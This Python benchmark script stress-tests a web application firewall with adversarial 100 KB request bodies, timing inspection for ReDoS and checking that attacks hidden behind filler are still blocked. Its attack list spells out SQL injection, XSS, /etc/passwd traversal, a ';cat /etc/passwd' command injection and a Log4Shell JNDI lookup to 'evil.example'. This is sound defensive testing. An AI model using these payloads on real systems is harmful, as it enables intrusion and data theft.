"""Worst-case inspection time over adversarial 100 KB request bodies (the ReDoS bar: < 50 ms).

    python benchmarks/waf_redos.py [--repeat 3] [--top 15]

The corpus is inspected ``--repeat`` times over (whole passes, so the repeats of one body are
far apart in time); the minimum CPU time per body is kept (the machine is shared, so the minimum
is the least noisy estimate of the work done) and the slowest bodies are listed. The corpus
covers long runs of metacharacters (quotes, ``<``, ``%``, ``&#``, backslashes, comment openers),
nested JSON and XML, many parameters, many short values, one huge value,
base64-looking blobs and repeated SQL keywords, each as form, JSON, XML, multipart and raw bodies.
Some bodies hide a real attack after ~100 KB of filler: those must still be blocked.
``tests/waf/test_redos.py`` runs the same corpus under a timeout.
"""

from __future__ import annotations

import argparse
import json
import random
import string
import time
import urllib.parse

from cognitionos.waf import Firewall, Request

SIZE = 100_000

#: Repeated units: metacharacters and tokens each detector or decoder reacts to.
UNITS: tuple[str, ...] = (
    "'",
    '"',
    "`",
    "<",
    ">",
    "<a ",
    "<a>",
    "<script>",
    "</",
    "<!--",
    "<!",
    "<?",
    "<%",
    "%",
    "%25",
    "%27",
    "%u0027",
    "%c0%ae",
    "%%",
    "&#",
    "&#x",
    "&#39;",
    "&amp;",
    "&lt;",
    "&",
    "\\",
    "\\x",
    "\\u",
    "\\\\",
    "\\'",
    "/*",
    "*/",
    "/*!",
    "--",
    "#",
    "../",
    "..\\",
    "/./",
    "//",
    "0x2e",
    "${",
    "${a:",
    "{{",
    "}}",
    "{%",
    "$(",
    "$",
    "(",
    ")",
    "()",
    "((",
    "[",
    "{",
    "|",
    ";",
    "&&",
    "=",
    ":",
    "?",
    "@",
    "*",
    ".",
    "+",
    "+a",
    "+ADw-",
    "\n",
    "\r\n",
    " ",
    "\t",
    "\x00",
    "a",
    "a ",
    "1",
    "1 ",
    "0x",
    "a'",
    "a=",
    "on",
    "onx=",
    " onload=",
    "javascript:",
    "data:",
    "http://",
    "://",
    "java.",
    "jndi",
    "alert(",
    "eval(",
    "document.",
    "select ",
    "union select ",
    "' or '",
    " or 1=1",
    "or ",
    "and 1=",
    "char(",
    "concat(",
    "sleep(",
    "/etc/",
    "cat ",
    ";cat ",
    "|id",
    "$ifs",
    "__",
    "php",
    "<?php",
    "${jndi:",
    "\u00c0",
    "\u00c0%9u",
    "%1u",
    "%f0%80%80%af",
    "\u3002",
    "\u2215",
    "like 1 ",
    "or 1 like ",
    "--x\n",
    "\uff07",
    "\u2019",
    "é",
    "ÿ",
)

#: Attacks hidden at the end of ~100 KB of filler: each body must still be blocked.
TAIL_ATTACKS: tuple[str, ...] = (
    "' or 1=1--",
    "1 union select password from users--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    ";cat /etc/passwd",
    "${jndi:ldap://evil.example/a}",
)


def _form(value: str, name: str = "v") -> bytes:
    return (name + "=" + urllib.parse.quote(value, safe="")).encode()


def _req(body: bytes, ctype: str) -> Request:
    return Request.from_raw(
        "POST",
        "/submit",
        headers=[("Host", "h"), ("Content-Type", ctype), ("Content-Length", str(len(body)))],
        body=body,
    )


def _fill(unit: str, size: int = SIZE) -> str:
    return (unit * (size // len(unit) + 1))[:size]


def corpus() -> list[tuple[str, Request, bool | None]]:
    """``(name, request, expected blocked or None)`` for every adversarial body (~100 KB each)."""
    rng = random.Random(4)
    out: list[tuple[str, Request, bool | None]] = []
    form = "application/x-www-form-urlencoded"
    for unit in UNITS:
        payload = _fill(unit)
        out.append((f"{unit!r} raw form", _req(("v=" + payload).encode(), form), None))
        out.append(
            (f"{unit!r} JSON", _req(json.dumps({"v": payload}).encode(), "application/json"), None)
        )
        out.append((f"{unit!r} text/plain", _req(payload.encode(), "text/plain"), None))
        if unit.isascii() and unit not in ("%", "%%"):
            # the same run sent %-encoded, so the decoders see it only after url-decoding
            out.append((f"{unit!r} encoded form", _req(_form(payload)[: SIZE + 2], form), None))
    # Many parameters / many short values / one huge value.
    out.append(("20k empty params", _req(b"&" * SIZE, form), None))
    out.append(("many a=1", _req(_fill("a=1&").encode(), form), None))
    out.append(("many quote params", _req(_fill("a='&").encode(), form), None))
    out.append(("many <a params", _req(_fill("a=%3Ca&").encode(), form), None))
    out.append(("many names only", _req(_fill("select&").encode(), form), None))
    shorts = "&".join(
        f"p{i}=" + urllib.parse.quote(rng.choice(["a'b", "<b>", "x=1", "../x", "$(", "1;", "%"]))
        for i in range(SIZE // 10)
    )
    out.append(("many short hostile values", _req(shorts[:SIZE].encode(), form), None))
    printable = string.ascii_letters + string.digits + string.punctuation + " "
    huge = "".join(rng.choice(printable) for _ in range(SIZE))
    out.append(("huge random printable (form)", _req(_form(huge), form), None))
    out.append(("huge random printable (raw)", _req(huge.encode(), "text/plain"), None))
    words = [
        "select",
        "union",
        "from",
        "where",
        "and",
        "or",
        "order",
        "by",
        "group",
        "insert",
        "update",
        "delete",
        "sleep",
        "char",
    ]
    sql = " ".join(rng.choice(words) for _ in range(SIZE // 5))[:SIZE]
    out.append(("repeated SQL keywords", _req(_form(sql), form), None))
    prose = " ".join(
        rng.choice(["lorem", "ipsum", "dolor", "sit", "amet,"]) for _ in range(SIZE // 5)
    )
    # one 100 KB value is over the 32 KiB inspection limit (ParseLimits.max_value_length): with
    # the default oversize="inspect_ends" it is flagged (a warning) and inspected at both ends
    out.append(("prose", _req(_form(prose[:SIZE]), form), False))
    # three values under the value limit, over the request's character budget together
    three = b"&".join(_form(prose[i : i + 30_000], f"p{i}") for i in (0, 30_000, 60_000))
    out.append(("prose in three values under the value limit", _req(three, form), False))
    b64 = "".join(rng.choice(string.ascii_letters + string.digits + "+/") for _ in range(SIZE))
    out.append(("base64-looking blob", _req(_form(b64), form), None))
    out.append(("base64 blob raw", _req(b64.encode(), "text/plain"), None))
    hexblob = "".join(rng.choice("0123456789abcdef") for _ in range(SIZE))
    out.append(("hex blob", _req(_form(hexblob), form), None))
    # Nested structures.
    depth = SIZE // 2
    out.append(
        ("nested JSON arrays", _req(("[" * depth + "]" * depth).encode(), "application/json"), None)
    )
    nested_obj = '{"a":' * (SIZE // 6) + "1" + "}" * (SIZE // 6)
    out.append(("nested JSON objects", _req(nested_obj.encode(), "application/json"), None))
    open_only = ("[" * SIZE).encode()
    out.append(("unclosed JSON arrays", _req(open_only, "application/json"), None))
    many_keys = json.dumps({f"k{i}": "x'<" for i in range(SIZE // 12)})
    out.append(("JSON many keys", _req(many_keys[:SIZE].encode() + b"}", "application/json"), None))
    many_strings = json.dumps(["a'" for _ in range(SIZE // 6)])
    distinct = json.dumps([f"a'{i}" for i in range(SIZE // 9)])
    out.append(("JSON many distinct strings", _req(distinct.encode(), "application/json"), None))
    out.append(("JSON many strings", _req(many_strings.encode(), "application/json"), None))
    out.append(
        (
            "nested XML",
            _req(("<a>" * (SIZE // 7) + "x" + "</a>" * (SIZE // 7)).encode(), "application/xml"),
            None,
        )
    )
    out.append(
        (
            "XML many attributes",
            _req(("<a " + "b='1' " * (SIZE // 7) + "/>").encode(), "application/xml"),
            None,
        )
    )
    out.append(("XML unclosed tags", _req(_fill("<a ").encode(), "application/xml"), None))
    out.append(("XML comments", _req(_fill("<!--").encode(), "text/xml"), None))
    out.append(("XML CDATA", _req(_fill("<![CDATA[").encode(), "text/xml"), None))
    parts = "".join(
        f'--b\r\nContent-Disposition: form-data; name="f{i}"\r\n\r\nx\'<\r\n'
        for i in range(SIZE // 60)
    )
    out.append(
        (
            "multipart many parts",
            _req((parts + "--b--\r\n").encode(), "multipart/form-data; boundary=b"),
            None,
        )
    )
    out.append(
        (
            "multipart one huge part",
            _req(
                (
                    '--b\r\nContent-Disposition: form-data; name="f"\r\n\r\n'
                    f"{_fill(chr(39))}\r\n--b--\r\n"
                ).encode(),
                "multipart/form-data; boundary=b",
            ),
            None,
        )
    )
    # A long run right after a character that wakes a detector, ending in a character the run's
    # pattern does not expect: the shape of the two O(n²) cases found by a (trigger, filler)
    # search over every unit above (blanks not followed by a line break; a digit run that is
    # not a number). The run is longer than the inspection budget (ParseLimits), so it is
    # inspected at both ends: the start with the trigger, the end with the terminator.
    pad = _form(_fill("lorem ipsum ", 30_000), "pad") + b"&"
    for trigger in ("\n", "\r\n", "'", '"', "<", "("):
        for filler in (" ", "\t", "1", "0", "a", "."):
            for gap in ("", "x"):
                value = trigger + gap + _fill(filler, 60_000) + "y"
                name = f"{filler!r} run after {trigger + gap!r}"
                out.append((name, _req(pad + _form(value), form), None))
    # Attacks after filler: normalization and detectors must still find them.
    # (the body is over the inspection budget: a padding parameter, then the attack at the end
    # of a long value and once more on its own; values over their allowance are inspected at
    # both ends, so filler in front of an attack does not hide it)
    for filler in ("a", " ", "<", "'", "%", "&#", "\\", "(", "${"):
        for attack in TAIL_ATTACKS:
            pad = _form(_fill(filler, 40_000), "pad")
            value = _fill(filler, SIZE - len(pad) // 3 - 100) + " " + attack
            body = pad + b"&" + _form(value)[:60_000] + _form(" " + attack, "")[1:]
            # (the SQL tokenizer stops after 400 tokens; a value's last 400 characters are
            # tokenized on their own too, so a keyword-only SQL attack behind punctuation filler
            # is still seen. Behind "&#" it is inside a MySQL "#" comment: not SQL any more.)
            keyword_sql_in_comment = attack.startswith("1 union") and filler == "&#"
            expected = None if keyword_sql_in_comment else True
            out.append((f"{attack!r} after {filler!r}*100k", _req(body, form), expected))
    for attack in TAIL_ATTACKS:
        doc = json.dumps({"a": [_fill("x", SIZE - 100)], "b": {"c": attack}})
        out.append((f"{attack!r} in JSON after 100k", _req(doc.encode(), "application/json"), True))
    return out


def main() -> None:
    ap = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    ap.add_argument("--repeat", type=int, default=3)
    ap.add_argument("--top", type=int, default=15)
    args = ap.parse_args()
    fw = Firewall()
    bodies = corpus()
    best = [float("inf")] * len(bodies)
    # --repeat passes over the whole corpus, the minimum CPU time per body kept: repeats of one
    # body are a whole pass apart, so a burst of load on the shared machine inflates one of
    # them, not all.
    for _ in range(max(1, args.repeat)):
        for i, (_name, req, _expected) in enumerate(bodies):
            start = time.process_time()
            fw.inspect(req)
            best[i] = min(best[i], time.process_time() - start)
    rows = []
    wrong = []
    for t, (name, req, expected) in zip(best, bodies, strict=True):
        verdict = fw.inspect(req)
        rows.append((t, name, len(req.body), verdict.blocked))
        if expected is not None and verdict.blocked != expected:
            wrong.append(name)
    rows.sort(reverse=True)
    print(f"{'adversarial body':<44}{'bytes':>8}{'ms':>9}  blocked")
    for t, name, size, blocked in rows[: args.top]:
        print(f"{name[:43]:<44}{size:>8}{1000 * t:>9.1f}  {blocked}")
    times = sorted(r[0] for r in rows)
    print(
        f"\n{len(rows)} bodies: worst {1000 * times[-1]:.1f} ms, "
        f"p50 {1000 * times[len(times) // 2]:.1f} ms (bar: worst < 50 ms)"
    )
    print(
        "expected verdicts: " + ("all as expected" if not wrong else "WRONG: " + ", ".join(wrong))
    )


if __name__ == "__main__":
    main()
